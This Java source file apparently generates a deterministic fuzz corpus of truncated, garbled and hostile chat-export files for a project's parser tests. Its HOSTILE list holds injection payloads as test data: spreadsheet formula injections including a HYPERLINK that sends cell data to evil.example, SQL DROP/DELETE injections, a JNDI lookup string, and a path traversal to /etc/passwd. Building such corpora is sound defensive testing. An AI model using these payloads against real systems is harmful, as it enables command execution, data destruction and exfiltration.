package com.qundesk.reliability;

import com.qundesk.reliability.FuzzSeeds.Seed;
import com.qundesk.reliability.FuzzSeeds.Shape;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.BiFunction;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;

/**
 * The hostile-input corpus: every seed of {@link FuzzSeeds} mutated, deterministically (seed {@value #SEED}), into
 * truncated, garbled, re-encoded and structurally broken files and into files whose values are hostile (huge numbers,
 * dates in year 1 and 9999, formulas, SQL, zero-width and right-to-left characters, NUL…). The small cases are
 * committed under {@code src/test/resources/fuzz/<format>/} and replayed by {@link HostileInputTest}; the large ones
 * (a 10 MB line, 100,000 levels of nesting, 100,000 columns) are made at test time by {@link #large()}.
 *
 * <p>Regenerate the committed corpus after changing seeds or mutations:
 * {@code ./mvnw -q test -Dtest=HostileInputTest#theCommittedCorpusIsWhatTheGeneratorWrites -Dqundesk.fuzz.regenerate=true}
 * (or run {@link #main} with the target folder). A file kept as the regression case of a fixed bug is one of these.
 */
public final class FuzzCorpusGenerator {

    public static final long SEED = 20_261_124L;
    static final Pattern SLOT = Pattern.compile("\\{\\{(\\w+):(.*?)\\}\\}", Pattern.DOTALL);

    /** One corpus file: its path under {@code fuzz/} and its bytes. */
    public record Case(String path, byte[] bytes) {
    }

    /** A hostile value for some kinds of placeholder. */
    record Hostile(String label, Map<String, String> byKind) {
        static Hostile numbers(String label, String v) {
            return new Hostile(label, Map.of("epoch", v, "count", v, "num", v));
        }

        static Hostile strings(String label, String v) {
            return new Hostile(label, Map.of("text", v, "name", v, "id", v));
        }

        static Hostile dates(String label, String epoch, String local, String time, String day) {
            return new Hostile(label, Map.of("epoch", epoch, "local", local, "time", time, "day", day));
        }
    }

    static final List<Hostile> HOSTILE = List.of(
            Hostile.numbers("num-huge", "99999999999999999999999999"),
            Hostile.numbers("num-19-digits", "9999999999999999999"),
            Hostile.numbers("num-long-min", "-9223372036854775808"),
            Hostile.numbers("num-negative", "-1"),
            Hostile.numbers("num-float-max", "1.5e308"),
            Hostile.numbers("num-nan", "NaN"),
            Hostile.numbers("num-hex", "0x7FFFFFFF"),
            Hostile.dates("year-1", "-62135596800", "0001-01-01 00:00:00", "0001-01-01T00:00:00Z", "0001-01-01"),
            Hostile.dates("year-9999", "253402300799", "9999-12-31 23:59:59", "9999-12-31T23:59:59Z", "9999-12-31"),
            Hostile.dates("year-9999-ms", "253402300799999", "9999-12-31T23:59:59.999+14:00", "9999-12-31 23:59:59",
                    "99991231"),
            Hostile.dates("year-extreme", "-9223372036854775808", "+999999999-12-31T23:59:59Z",
                    "+1000000000-12-31T23:59:59Z", "+999999999-12-31"),
            Hostile.dates("date-invalid", "1762045200.5", "2025-02-30 25:61:61", "2025-02-30 10:00", "2025-02-30"),
            Hostile.dates("date-words", "now", "昨天 下午", "tomorrow", "明天"),
            Hostile.strings("formula-eq", "=cmd|' /C calc'!A0"),
            Hostile.strings("formula-plus", "+SUM(A1:A9)"),
            Hostile.strings("formula-minus", "-2+3+cmd|' /C calc'!A0"),
            Hostile.strings("formula-at", "@SUM(1+1)*cmd|' /C calc'!A0"),
            Hostile.strings("formula-tab-cr", "\t=1+1\r=2+2"),
            Hostile.strings("formula-hyperlink", "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"点我\")"),
            Hostile.strings("sql-drop", "'); DROP TABLE chat_group;--"),
            Hostile.strings("sql-or", "\" OR 1=1; DELETE FROM value_event WHERE ''='"),
            Hostile.strings("zero-width", "\u200B\u200C\u200D\u2060\uFEFF"),
            Hostile.strings("zero-width-inside", "夜\u200B话\u200D会\u2060"),
            Hostile.strings("rtl", "\u202Egnp.exe\u202C\u2066\u2067\u2068\u2069\u200F\u061C"),
            Hostile.strings("nul-in-value", "a\u0000b\u0000"),
            Hostile.strings("control-chars", "\u0001\u0007\u001B[31m\u007F\u0085\u2028\u2029"),
            Hostile.strings("emoji", "😀👨‍👩‍👧‍👦🏳️‍🌈"),
            Hostile.strings("long-value", "长".repeat(1000)),
            Hostile.strings("blank-value", "   "),
            Hostile.strings("empty-value", ""),
            Hostile.strings("json-like", "{\"a\":[1,{\"b\":null}]}"),
            Hostile.strings("markup", "<msg><![CDATA[x]]></msg>&amp;&lt;&#0;"),
            Hostile.strings("format-string", "%s%n{0}{1}'{2}'${jndi:ldap://x/a}"),
            Hostile.strings("path", "../../../../etc/passwd"),
            Hostile.strings("newlines", "第一行\r\n第二行\r第三行\n"),
            Hostile.strings("quotes", "\"\"\"'''\\\\\"\\"));

    private FuzzCorpusGenerator() {
    }

    /** Regenerates the committed corpus into {@code args[0]} (default {@code src/test/resources/fuzz}). */
    public static void main(String[] args) throws IOException {
        Path root = Path.of(args.length > 0 ? args[0] : "src/test/resources/fuzz");
        List<Case> corpus = corpus();
        write(root, corpus);
        System.out.printf("%d files written to %s%n", corpus.size(), root.toAbsolutePath());
    }

    /** Replaces everything under {@code root} with {@code cases}. */
    static void write(Path root, List<Case> cases) throws IOException {
        if (Files.exists(root)) {
            try (Stream<Path> s = Files.walk(root)) {
                for (Path p : s.sorted(Comparator.reverseOrder()).toList()) {
                    Files.delete(p);
                }
            }
        }
        for (Case c : cases) {
            Path p = root.resolve(c.path());
            Files.createDirectories(p.getParent());
            Files.write(p, c.bytes());
        }
    }

    /** The committed corpus, in a fixed order. */
    public static List<Case> corpus() {
        List<Case> out = new ArrayList<>();
        List<Seed> seeds = FuzzSeeds.all();
        for (int i = 0; i < seeds.size(); i++) {
            Seed s = seeds.get(i);
            Random r = new Random(SEED + s.dir().hashCode());
            Map<String, byte[]> cases = new LinkedHashMap<>();
            cases.put("valid", valid(s));
            FuzzMutations.bytes(cases, valid(s), r, s.shape() == Shape.XLSX);
            if (s.shape() == Shape.XLSX) {
                FuzzMutations.xlsx(cases, s.rows(), r);
            } else {
                FuzzMutations.text(cases, new String(valid(s), StandardCharsets.UTF_8), r);
                switch (s.shape()) {
                    case CSV -> FuzzMutations.csv(cases, s, r);
                    case JSON -> FuzzMutations.json(cases, new String(valid(s), StandardCharsets.UTF_8), r);
                    case JSONL -> FuzzMutations.jsonLines(cases, new String(valid(s), StandardCharsets.UTF_8), r);
                    case XML -> FuzzMutations.xml(cases, new String(valid(s), StandardCharsets.UTF_8));
                    default -> throw new IllegalStateException(s.shape().toString());
                }
            }
            // every other hostile value per seed (alternating between neighbouring seeds): all of them are covered
            // by every family of formats, and the corpus stays small
            for (int h = 0; h < HOSTILE.size(); h++) {
                Hostile hv = HOSTILE.get(h);
                if ((h + i) % 2 == 0 && hasSlotFor(s, hv)) {
                    if (cases.put(hv.label(), render(s, hostileValues(hv, new Random(SEED + h * 31L + i)))) != null) {
                        throw new IllegalStateException("two mutations labelled " + hv.label());
                    }
                }
            }
            if (s.dir().startsWith("pywxdump3/")) {
                // the users.json PyWxDump writes beside the pages: every page of the folder reads it
                out.add(new Case(s.dir() + "/users.json", FuzzCorpusGenerator.utf8(FuzzCorpusGenerator.renderText(
                        FuzzSeeds.PYWXDUMP_USERS, Shape.JSON, (k, d) -> d))));
            }
            int n = 0;
            for (Map.Entry<String, byte[]> e : cases.entrySet()) {
                out.add(new Case(s.file("%03d-%s".formatted(n++, e.getKey())), e.getValue()));
            }
        }
        return out;
    }

    /**
     * The large cases, made at test time: for one seed of each parser family, a 10 MB line, 100,000 levels of nesting
     * and 100,000 columns or keys.
     */
    public static List<Case> large() {
        List<Case> out = new ArrayList<>();
        for (Seed s : FuzzSeeds.all()) {
            if (!List.of("wechatmsg12", "chatlog-json", "chatlab-jsonl", "wecom-get", "wecom-callback",
                    "registry-csv", "registry-xlsx").contains(s.format())) {
                continue;
            }
            out.add(new Case(s.file("line-10mb"), FuzzMutations.tenMegabyteLine(s)));
            out.add(new Case(s.file("deep-100k"), FuzzMutations.deep(s, 100_000)));
            out.add(new Case(s.file("wide-100k"), FuzzMutations.wide(s, 100_000)));
        }
        return out;
    }

    static boolean hasSlotFor(Seed s, Hostile h) {
        for (String t : templates(s)) {
            Matcher m = SLOT.matcher(t);
            while (m.find()) {
                if (h.byKind().containsKey(m.group(1))) {
                    return true;
                }
            }
        }
        return false;
    }

    private static List<String> templates(Seed s) {
        return s.text() != null ? List.of(s.text()) : s.rows().stream().flatMap(List::stream).toList();
    }

    /** Replaces the first slot of a kind the hostile value covers, and each later one with probability 1/2. */
    static BiFunction<String, String, String> hostileValues(Hostile h, Random r) {
        boolean[] first = {true};
        return (kind, dflt) -> {
            String v = h.byKind().get(kind);
            if (v == null) {
                return dflt;
            }
            if (first[0] || r.nextBoolean()) {
                first[0] = false;
                return v;
            }
            return dflt;
        };
    }

    static byte[] valid(Seed s) {
        return render(s, (kind, dflt) -> dflt);
    }

    /** The seed with each slot's value from {@code values} (kind, default), escaped as its place needs. */
    static byte[] render(Seed s, BiFunction<String, String, String> values) {
        return switch (s.shape()) {
            case CSV -> csvBytes(renderRows(s.rows(), values), s.bom(), s.eol());
            case XLSX -> MiniXlsx.of(renderRows(s.rows(), values));
            default -> renderText(s.text(), s.shape(), values).getBytes(StandardCharsets.UTF_8);
        };
    }

    static List<List<String>> renderRows(List<List<String>> rows, BiFunction<String, String, String> values) {
        List<List<String>> out = new ArrayList<>();
        for (List<String> row : rows) {
            List<String> cells = new ArrayList<>();
            for (String cell : row) {
                Matcher m = SLOT.matcher(cell);
                StringBuilder b = new StringBuilder();
                while (m.find()) {
                    m.appendReplacement(b, Matcher.quoteReplacement(values.apply(m.group(1), m.group(2))));
                }
                m.appendTail(b);
                cells.add(b.toString());
            }
            out.add(cells);
        }
        return out;
    }

    static String renderText(String template, Shape shape, BiFunction<String, String, String> values) {
        Matcher m = SLOT.matcher(template);
        StringBuilder b = new StringBuilder();
        while (m.find()) {
            String v = values.apply(m.group(1), m.group(2));
            boolean quoted = m.start() > 0 && template.charAt(m.start() - 1) == '"' && m.end() < template.length()
                    && template.charAt(m.end()) == '"';
            String escaped = shape == Shape.XML ? MiniXlsx.escape(v) : quoted ? jsonEscape(v) : v;
            m.appendReplacement(b, Matcher.quoteReplacement(escaped));
        }
        m.appendTail(b);
        return b.toString();
    }

    static String jsonEscape(String s) {
        StringBuilder b = new StringBuilder();
        for (int i = 0; i < s.length(); i++) {
            char c = s.charAt(i);
            switch (c) {
                case '"' -> b.append("\\\"");
                case '\\' -> b.append("\\\\");
                case '\n' -> b.append("\\n");
                case '\r' -> b.append("\\r");
                case '\t' -> b.append("\\t");
                default -> {
                    if (c < 0x20) {
                        b.append("\\u%04x".formatted((int) c));
                    } else {
                        b.append(c);
                    }
                }
            }
        }
        return b.toString();
    }

    static String csvLine(List<String> cells) {
        StringBuilder b = new StringBuilder();
        for (int i = 0; i < cells.size(); i++) {
            if (i > 0) {
                b.append(',');
            }
            String c = cells.get(i);
            if (c.indexOf(',') >= 0 || c.indexOf('"') >= 0 || c.indexOf('\n') >= 0 || c.indexOf('\r') >= 0) {
                b.append('"').append(c.replace("\"", "\"\"")).append('"');
            } else {
                b.append(c);
            }
        }
        return b.toString();
    }

    static byte[] csvBytes(List<List<String>> rows, boolean bom, String eol) {
        StringBuilder b = new StringBuilder(bom ? "\uFEFF" : "");
        for (List<String> row : rows) {
            b.append(csvLine(row)).append(eol);
        }
        return b.toString().getBytes(StandardCharsets.UTF_8);
    }

    static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    static void writeTo(Path dir, List<Case> cases) {
        try {
            for (Case c : cases) {
                Path p = dir.resolve(c.path());
                Files.createDirectories(p.getParent());
                Files.write(p, c.bytes());
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
